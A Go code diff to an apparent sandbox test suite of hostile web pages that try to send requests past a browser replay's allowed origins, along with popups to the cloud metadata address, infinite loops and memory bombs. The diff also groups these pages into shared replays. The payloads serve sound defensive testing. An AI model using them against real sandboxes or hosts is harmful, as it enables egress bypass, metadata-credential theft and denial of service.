@@ -1,5 +1,7 @@
 package hostilepage
 
+import "strings"
+
 // behaviour is one way a page tries to reach the network past its replay's allowed origins.
 // Page is served at /h/<name> on the allowed origin; Steps is the test replayed (by default:
 // open the page, click #go when the page has one, and give it a moment to misbehave). In
@@ -9,6 +11,10 @@ type behaviour struct {
 	name  string
 	page  string
 	steps string
+	// alone marks a page that must be the replay's top-level document to do what it does
+	// (navigate the tab, speculate, run out the replay); the others share replays, each in an
+	// iframe of its own (see replays).
+	alone bool
 }
 
 // wait is how long a replay gives a page to misbehave after its last step.
@@ -33,7 +39,7 @@ var behaviours = []behaviour{
 	{name: "preconnect", page: `<link rel="preconnect" href="{{C}}"><link rel="dns-prefetch" href="{{C}}">`},
 	{name: "preload", page: `<link rel="preload" as="script" href="{{C}}/?b={{B}}">`},
 	{name: "modulepreload", page: `<link rel="modulepreload" href="{{C}}/?b={{B}}">`},
-	{name: "speculation-rules", page: `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["{{C}}/?b={{B}}-prefetch"]}], "prerender": [{"source": "list", "urls": ["{{C}}/?b={{B}}-prerender"]}]}</script>`},
+	{name: "speculation-rules", alone: true, page: `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["{{C}}/?b={{B}}-prefetch"]}], "prerender": [{"source": "list", "urls": ["{{C}}/?b={{B}}-prerender"]}]}</script>`},
 	{name: "iframe", page: `<iframe src="{{C}}/?b={{B}}"></iframe>`},
 	{name: "iframe-srcdoc", page: `<iframe srcdoc="<img src='{{C}}/?b={{B}}'>"></iframe>`},
 	{name: "media", page: `<video src="{{C}}/?b={{B}}-video"></video><audio src="{{C}}/?b={{B}}-audio" preload="auto"></audio>`},
@@ -43,8 +49,8 @@ var behaviours = []behaviour{
 	{name: "script-src", page: `<script src="{{C}}/?b={{B}}"></script>`},
 	{name: "redirect", page: `<p>redirect</p>`, steps: `[{"kind":"goto","url":"/redirect?b={{B}}"},` + wait + `]`},
 	{name: "redirected-img", page: `<img src="/redirect?b={{B}}">`},
-	{name: "meta-refresh", page: `<meta http-equiv="refresh" content="0;url={{C}}/?b={{B}}">`},
-	{name: "location-assign", page: `<script>setTimeout(() => location.href = "{{C}}/?b={{B}}", 50)</script>`},
+	{name: "meta-refresh", alone: true, page: `<meta http-equiv="refresh" content="0;url={{C}}/?b={{B}}">`},
+	{name: "location-assign", alone: true, page: `<script>setTimeout(() => location.href = "{{C}}/?b={{B}}", 50)</script>`},
 	{name: "form-get", page: `<form action="{{C}}/" method="get"><input name="b" value="{{B}}"><button id="go">Go</button></form>`},
 	{name: "a-ping", page: `<a id="go" href="/h/fetch-nothing" ping="{{C}}/?b={{B}}">go</a>`},
 	{name: "goto-canary", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"{{C}}/?b={{B}}"},` + wait + `]`},
@@ -75,7 +81,7 @@ pc.createDataChannel("x");
 pc.createOffer().then(o => pc.setLocalDescription(o));
 </script>`},
 	{name: "data-url-popup", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"data:text/html,<script>window.open('{{C}}/?b={{B}}'); fetch('{{C}}/?b={{B}}-fetch', {mode: 'no-cors'})</script>"},` + wait + `]`},
-	{name: "blob-document", page: `<script>location.href = URL.createObjectURL(new Blob(["<img src='{{C}}/?b={{B}}'><script>fetch('{{C}}/?b={{B}}-fetch', {mode: 'no-cors'}); window.open('{{C}}/?b={{B}}-open')<\/script>"], {type: "text/html"}))</script>`},
+	{name: "blob-document", alone: true, page: `<script>location.href = URL.createObjectURL(new Blob(["<img src='{{C}}/?b={{B}}'><script>fetch('{{C}}/?b={{B}}-fetch', {mode: 'no-cors'}); window.open('{{C}}/?b={{B}}-open')<\/script>"], {type: "text/html"}))</script>`},
 	{name: "blob-popup", page: `<script>window.open(URL.createObjectURL(new Blob(["<img src='{{C}}/?b={{B}}'>"], {type: "text/html"})))</script>`},
 	{name: "about-blank-popup-write", page: `<script>const w = window.open(""); if (w) w.document.write("<img src='{{C}}/?b={{B}}'>")</script>`},
 	{name: "popup-to-metadata", page: `<script>window.open("http://169.254.169.254/latest/meta-data/?b={{B}}")</script>`},
@@ -88,6 +94,52 @@ pc.createOffer().then(o => pc.setLocalDescription(o));
 	// What would exhaust the host or hold the replay.
 	{name: "infinite-loop", page: `<p id="x">x</p><script>addEventListener("load", () => setTimeout(() => { for (;;) {} }, 0))</script>`,
 		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"assertVisible","locator":"#x"},{"kind":"click","locator":"#x"}]`},
-	{name: "memory-bomb", page: `<script>const keep = []; (function grow() { for (let i = 0; i < 200; i++) keep.push(new Array(100000).fill(Math.random())); setTimeout(grow, 0) })()</script>`},
+	{name: "memory-bomb", alone: true, page: `<p id="x">x</p><script>const keep = []; (function grow() { for (let i = 0; i < 50; i++) keep.push(new Array(100000).fill(Math.random())); setTimeout(grow, 0) })()</script>`,
+		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"wait","for":"time","ms":2000},{"kind":"assertVisible","locator":"#x"}]`},
+	{name: "memory-bomb-buffers", alone: true, page: `<p id="x">x</p><script>const keep = []; (function grow() { keep.push(new Uint8Array(64 << 20).fill(1)); setTimeout(grow, 0) })()</script>`,
+		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"wait","for":"time","ms":2000},{"kind":"assertVisible","locator":"#x"}]`},
 	{name: "fetch-nothing", page: `<p>a quiet page</p>`},
+}
+
+// together is how many pages share a replay, each in an iframe.
+const together = 12
+
+// run is one replay of the suite: one behaviour alone, or several side by side.
+type run struct {
+	label string
+	names []string
+	steps string
+}
+
+// replays groups the behaviours into the suite's replays: a page with steps of its own, a
+// button to click or the need to be the top-level document runs alone; the others run
+// together pages at a time, each in an iframe of /all, so the suite stays short.
+func replays() []run {
+	var out []run
+	var group []string
+	flush := func() {
+		if len(group) > 0 {
+			out = append(out, run{label: "together: " + strings.Join(group, ","), names: group,
+				steps: `[{"kind":"goto","url":"/all?b=` + strings.Join(group, ",") + `"},` + wait + `]`})
+			group = nil
+		}
+	}
+	for _, b := range behaviours {
+		if b.steps == "" && !b.alone && !strings.Contains(b.page, `id="go"`) {
+			if group = append(group, b.name); len(group) == together {
+				flush()
+			}
+			continue
+		}
+		steps := b.steps
+		if steps == "" {
+			steps = `[{"kind":"goto","url":"/h/{{B}}"},` + wait + `]`
+			if strings.Contains(b.page, `id="go"`) {
+				steps = `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"click","locator":"#go"},` + wait + `]`
+			}
+		}
+		out = append(out, run{label: b.name, names: []string{b.name}, steps: steps})
+	}
+	flush()
+	return out
 }
